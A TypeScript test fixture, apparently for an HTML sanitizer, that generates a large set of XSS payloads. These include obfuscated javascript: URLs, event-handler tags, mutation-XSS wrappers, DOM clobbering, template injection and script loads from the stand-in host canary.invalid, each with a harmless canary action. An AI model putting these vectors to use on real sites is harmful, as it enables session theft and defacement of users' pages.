/**
 * Texts that want to become something else where they are shown. Each would set `laneBreach` on the page, or fetch from
 * `canary.invalid`, or put something over the page, if any part of it came alive.
 */
const code = "globalThis.laneBreach=1";
const away = "//canary.invalid/x";

const urls = [
  `javascript:${code}`,
  `JaVaScRiPt:${code}`,
  `java\tscript:${code}`,
  `&#106;avascript&colon;${code}`,
  `&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:${code}`,
  `\u0001javascript:${code}`,
  `vbscript:${code}`,
  `data:text/html,<script>${code}</script>`,
  `data:image/svg+xml,<svg onload=${code}>`,
  `blob:${away}`,
  away,
  `https:${away}`,
];

const urlCarriers = [
  (url: string) => `<a href="${url}">go</a>`,
  (url: string) => `<img src="${url}">`,
  (url: string) => `<img srcset="${url} 2x, ${away} 1x">`,
  (url: string) => `<iframe src="${url}"></iframe>`,
  (url: string) => `<object data="${url}"></object>`,
  (url: string) => `<embed src="${url}">`,
  (url: string) => `<form action="${url}"><input type=submit></form>`,
  (url: string) => `<button formaction="${url}">go</button>`,
  (url: string) => `<link rel=stylesheet href="${url}">`,
  (url: string) => `<base href="${url}">`,
  (url: string) => `<meta http-equiv=refresh content="0;url=${url}">`,
  (url: string) => `<video poster="${url}"><source src="${url}"></video>`,
  (url: string) => `<audio src="${url}" autoplay></audio>`,
  (url: string) => `<svg><a xlink:href="${url}"><text>go</text></a></svg>`,
  (url: string) => `<svg><use href="${url}#x"/></svg>`,
  (url: string) => `<svg><image href="${url}"/></svg>`,
  (url: string) => `<math href="${url}"><mi>x</mi></math>`,
  (url: string) => `<table background="${url}"><tr><td>x</td></tr></table>`,
  (url: string) => `<p style="background:url(${url})">x</p>`,
  (url: string) => `<style>@import "${url}"; body{background:url(${url})}</style>`,
  (url: string) => `<area href="${url}"><map name=x></map>`,
  (url: string) => `<blockquote cite="${url}">x</blockquote>`,
];

const handlers = ["onerror", "onload", "onclick", "onfocus", "onmouseover", "onanimationstart", "ontoggle", "ONERROR"];
const handlerTags = [
  "p",
  "strong",
  "b",
  "br",
  "img",
  "svg",
  "body",
  "details open",
  "input autofocus",
  "video",
  "x",
  "a",
];
const joiners = [" ", "/", "\t", "\n", "\f", ' a="1"', "\u00a0"];

const wrappers = [
  (inner: string) => `<p>${inner}</p>`,
  (inner: string) => `<p><strong>${inner}`,
  (inner: string) => `</p></strong>${inner}`,
  (inner: string) => `<b><p>${inner}</b></p>`,
  (inner: string) => `<p ${inner}>x</p>`,
  (inner: string) => `<p title='"${inner}'>x</p>`,
  (inner: string) => `<textarea>${inner}</textarea>`,
  (inner: string) => `<title>${inner}</title>`,
  (inner: string) => `<noscript>${inner}</noscript>`,
  (inner: string) => `<noscript><p title="</noscript>${inner}">`,
  (inner: string) => `<template>${inner}</template>`,
  (inner: string) => `<select><option>${inner}</select>`,
  (inner: string) => `<style>${inner}</style>`,
  (inner: string) => `<style><!--</style>${inner}-->`,
  (inner: string) => `<xmp>${inner}</xmp>`,
  (inner: string) => `<plaintext>${inner}`,
  (inner: string) => `<iframe srcdoc='${inner}'></iframe>`,
  (inner: string) => `<iframe>${inner}</iframe>`,
  (inner: string) => `<noembed>${inner}</noembed>`,
  (inner: string) => `<!--${inner}-->`,
  (inner: string) => `<!-->${inner}-->`,
  (inner: string) => `<!--x--!>${inner}`,
  (inner: string) => `<![CDATA[${inner}]]>`,
  (inner: string) => `<svg><![CDATA[</svg>${inner}]]>`,
  (inner: string) => `<?xml version="1.0"?>${inner}`,
  (inner: string) => `<svg><foreignObject>${inner}</foreignObject></svg>`,
  (inner: string) => `<svg><desc>${inner}</desc></svg>`,
  (inner: string) => `<svg><style>${inner}</style></svg>`,
  (inner: string) => `<math><mtext><table><mglyph><style><!--</style><p title="-->${inner}">`,
  (inner: string) => `<math><annotation-xml encoding="text/html">${inner}</annotation-xml></math>`,
  (inner: string) => `<form><math><mtext></form><form><mglyph><style></math>${inner}`,
  (inner: string) => `<table><td>${inner}</table>`,
  (inner: string) => `<table><caption>${inner}</table>`,
  (inner: string) => `<<p>${inner}<</p>`,
  (inner: string) => `<${inner}`,
  (inner: string) => `<p\u0000>${inner}`.replace("\u0000", "\u0007"),
  (inner: string) => `<p>${inner.replaceAll("<", "&lt;").replaceAll(">", "&gt;")}</p>`,
  (inner: string) => `<p>${inner.replaceAll("<", "&amp;lt;")}</p>`,
  (inner: string) => `<p>${inner.replaceAll("<", "&#60;").replaceAll(">", "&#x3e;")}</p>`,
  (inner: string) => `<p>${inner.replaceAll("<", "\uff1c").replaceAll(">", "\uff1e")}</p>`,
  (inner: string) => inner.replaceAll("<", "<\u200b"),
  (inner: string) => inner.replace("<", "<<").replace(">", ">>"),
  (inner: string) => inner.replaceAll(">", ""),
  (inner: string) => inner.replace(/^<(\w)(\w*)/, "<$1<b>$2"),
];

const cores = [
  `<script>${code}</script>`,
  `<ScRiPt/x>${code}</sCrIpT >`,
  `<script src=${away}></script>`,
  `<img src=x onerror=${code}>`,
  `<svg/onload=${code}>`,
  `<svg><script>${code}</script></svg>`,
  `<svg><animate onbegin=${code} attributeName=x dur=1s>`,
  `<svg><set attributeName=href to=javascript:${code}>`,
  `<iframe src="javascript:${code}"></iframe>`,
  `<style>*{background:url(${away})}</style>`,
];

const others = [
  // Names that would stand in the way of the page's own.
  ...["getElementById", "attributes", "parentNode", "body", "cookie", "laneBreach"].map(
    (name) => `<form id="${name}" name="${name}"><input name="${name}"></form><a id=${name} href=${away}>x</a>`,
  ),
  // Over the whole page.
  '<p style="position:fixed;inset:0;background:#000;z-index:99999">gone</p>',
  '<dialog open style="position:fixed;inset:0">gone</dialog>',
  "<marquee width=9999 height=9999 bgcolor=red>gone</marquee>",
  // For whatever fills in templates.
  ...["{{constructor.constructor('CODE')()}}", "${CODE}", "<%= CODE %>", "#{CODE}", "[[CODE]]", "{CODE}"].map((text) =>
    text.replace("CODE", code),
  ),
  // For whatever reads attributes as behaviour.
  `<p x-data x-init="${code}">x</p>`,
  `<p v-html="${code}" :onclick="${code}">x</p>`,
  `<p hx-get="${away}" hx-trigger=load>x</p>`,
  `<p data-bind="text: ${code}">x</p>`,
  `<p is=x-evil slot=x part=x contenteditable>x</p>`,
  // Letters that turn round, join or hide.
  `\u202e<script>${code}</script>\u202c`,
  `<scr\u00adipt>${code}</scr\u00adipt>`,
  `<\u017fcript>${code}</\u017fcript>`,
  `<s\u0131vg onload=${code}>`,
  `\ud800<script>${code}</script>\udfff`,
  `<p>\ud83c</p>`,
];

/** The same texts in the same order each time. */
export function hostileTexts(): readonly string[] {
  const carried = urls.flatMap((url) => urlCarriers.map((carrier) => carrier(url)));
  const handled = handlers.flatMap((handler, row) =>
    handlerTags.map((tag, column) => `<${tag}${joiners[(row + column) % joiners.length]}${handler}=${code}>x`),
  );
  const wrapped = cores.flatMap((core) => wrappers.map((wrapper) => wrapper(core)));
  return [...new Set([...cores, ...carried, ...handled, ...wrapped, ...others])];
}
